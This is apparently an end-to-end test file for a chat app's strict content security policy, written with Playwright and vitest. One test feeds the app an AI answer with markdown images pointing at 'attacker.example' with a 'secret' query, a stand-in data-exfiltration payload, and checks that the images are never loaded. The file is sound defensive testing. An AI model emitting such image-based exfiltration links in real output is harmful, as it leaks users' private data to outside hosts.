import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { type Browser, openBrowser } from './browser';
import { cspConsoleErrors, violationsOn, watchCsp } from './csp-watch';
import { chatPage } from './fixtures/chat-page';
import { signUp } from './session';

let browser: Browser | undefined;
afterEach(async () => {
  await browser?.close();
  browser = undefined;
});

/** Every document's CSP violations are collected; the page opens in the light theme. */
async function watchViolations(target: Browser) {
  await target.context.addCookies([{ name: 'theme', value: 'light', url: target.url('/') }]);
  await watchCsp(target);
}

// Every route, signed in and out, both themes, is loaded under the strict policy by the axe
// walk in axe-routes.e2e.test.ts, which checks each page's policy and violations as it goes.
describe('the strict content security policy in Chromium', () => {
  it('shows a remote image of an answer as a link naming its host and never requests it', async () => {
    browser = await openBrowser();
    await watchViolations(browser);
    const requested: string[] = [];
    browser.context.on('request', (request) => requested.push(request.url()));
    await signUp(browser, { locale: 'en' });
    const chat = chatPage(browser);
    await chat.open('/en/chat');
    await chat.chooseModel('gpt:gpt-mini', 'gpt:gpt');
    const answer =
      'Look: ![x](https://attacker.example/?q=secret) and ![y](//attacker.example/p.png)';
    await chat.send(`Describe the picture fake:text=${Buffer.from(answer).toString('hex')}`);
    await chat.waitForAnswer();

    const link = chat.lastAnswer().locator('[data-testid="remote-image-link"]').first();
    await expect.poll(() => link.textContent()).toContain('attacker.example');
    expect(await link.getAttribute('href')).toBe('https://attacker.example/?q=secret');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await chat.lastAnswer().locator('img').count()).toBe(0);

    // The saved answer, rendered on the server this time.
    await browser.page.reload({ waitUntil: 'networkidle' });
    await browser.page.waitForSelector('[data-testid="remote-image-link"]');
    expect(await browser.page.locator('[data-testid="message-assistant"] img').count()).toBe(0);

    expect(requested.filter((url) => url.includes('attacker.example'))).toEqual([]);
    expect(await violationsOn(browser.page)).toEqual([]);
    expect(cspConsoleErrors(browser)).toEqual([]);
  }, 120_000);

  it("has a worker make a signed-in page's Intl formatters under the policy; sign-in starts none", async () => {
    browser = await openBrowser();
    await watchViolations(browser);
    // The workers a page starts, with their sources decoded.
    const workersOf = (page: Page) => {
      const sources: string[] = [];
      page.on('worker', (worker) => sources.push(decodeURIComponent(worker.url())));
      return sources;
    };

    const signIn = await browser.context.newPage();
    const signInWorkers = workersOf(signIn);
    await signIn.goto(browser.url('/ru/auth/login'), { waitUntil: 'networkidle' });
    await signIn.close();

    await signUp(browser, { locale: 'ru' });
    const balance = await browser.context.newPage();
    const balanceWorkers = workersOf(balance);
    const consoleErrors: string[] = [];
    balance.on('console', (message) => {
      if (message.type() === 'error') consoleErrors.push(message.text());
    });
    await balance.goto(browser.url('/ru/cabinet/balance'));
    await balance.waitForSelector('[data-testid="balance-amount"]');
    await expect.poll(() => balanceWorkers.length).toBe(1);
    const [source] = balanceWorkers;
    // Made from the page's head, not fetched: the formatters of decision 183 in the account's
    // zone (Moscow when unset), then the worker closes itself.
    expect(source).toMatch(/^data:text\/javascript,for\(/);
    expect(source).toContain('["NumberFormat","ru-RU",{"style":"currency","currency":"RUB"');
    expect(source).toContain('"timeZone":"Europe/Moscow"');
    expect(source).toMatch(/close\(\)$/);
    expect(signInWorkers).toEqual([]);
    // A worker or script the policy refused would be a violation here.
    expect(await violationsOn(balance)).toEqual([]);
    expect(cspConsoleErrors({ errors: consoleErrors })).toEqual([]);
  }, 120_000);
});
